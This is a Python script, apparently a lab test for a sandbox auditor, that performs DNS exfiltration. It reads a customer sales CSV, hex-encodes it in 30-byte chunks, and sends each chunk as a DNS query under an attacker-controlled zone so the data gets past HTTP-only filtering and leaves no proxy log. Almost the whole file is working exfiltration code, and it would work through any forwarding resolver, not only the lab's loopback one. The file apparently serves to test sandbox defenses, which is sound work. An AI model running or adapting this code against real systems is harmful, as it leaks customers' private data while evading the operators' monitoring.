# lab:title: Smuggle the customer data out in DNS queries
# lab:threat: exfil
# lab:layer: network
# lab:consequence: The customer list left in DNS lookups, the one kind of traffic a sandbox that only filters HTTP lets through: a breach that no proxy log shows.
"""DNS exfiltration: when HTTP is filtered, send the data as names to look up.

Reads the sales CSV (LAB_DATA) and cuts it into 30-byte pieces. Each piece,
hex-encoded, becomes one label of a name under the attacker's zone
("<hex>.<n>.<zone>"), sent as a DNS query over UDP to the resolver named in
LAB_DNS (dns://127.0.0.1:PORT/ZONE: under `audit` the lab serves one on
loopback). Any resolver that forwards queries for a zone to the zone's
owner carries them the same way. Nothing waits for an answer: a query that
left is a piece of the data delivered.
"""
import os
import socket
import struct
import sys
import urllib.parse


def lab_input(name):
    """The lab's input NAME: from the environment, else from a NAME=VALUE
    argument (a sandbox under audit may clear the environment)."""
    for arg in sys.argv[1:]:
        key, eq, value = arg.partition("=")
        if eq and key == name and not os.environ.get(name):
            return value
    return os.environ.get(name)


def report_attempt():
    """Under `audit` the lab asks each attack to say when it makes its move,
    with a word only this run can form: no word, no verdict."""
    proof = lab_input("LAB_PROOF")
    if proof:
        print(f"lab-attempt: {proof[::-1]}", flush=True)


def query(qid, name):
    """A standard query for NAME's A record, as any stub resolver sends."""
    header = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return header + labels + b"\0" + struct.pack("!HH", 1, 1)


def main():
    data_path, dns = lab_input("LAB_DATA"), lab_input("LAB_DNS")
    if not data_path or not dns:
        print("LAB_DATA or LAB_DNS is not set: nothing to steal or no "
              "resolver to hand it to", flush=True)
        return 1
    url = urllib.parse.urlsplit(dns)
    zone = url.path.strip("/")
    try:
        with open(data_path, "rb") as f:
            body = f.read(64 * 1024)
    except OSError as e:
        print(f"cannot read the data: {e}", flush=True)
        return 1
    pieces = [body[i:i + 30] for i in range(0, len(body), 30)]
    print(f"read {len(body)} bytes of customer data: {len(pieces)} queries "
          f"under {zone} to {url.hostname}:{url.port}", flush=True)
    report_attempt()
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    except OSError as e:
        print(f"socket: {e}", flush=True)
        return 1
    sent = 0
    for n, piece in enumerate(pieces):
        try:
            s.sendto(query(n & 0xFFFF, f"{piece.hex()}.{n}.{zone}"),
                     (url.hostname, url.port))
            sent += 1
        except OSError as e:
            print(f"query {n}: {e}", flush=True)
            break
    print(f"{sent} of {len(pieces)} queries sent", flush=True)
    return 0 if sent else 1


if __name__ == "__main__":
    sys.exit(main())
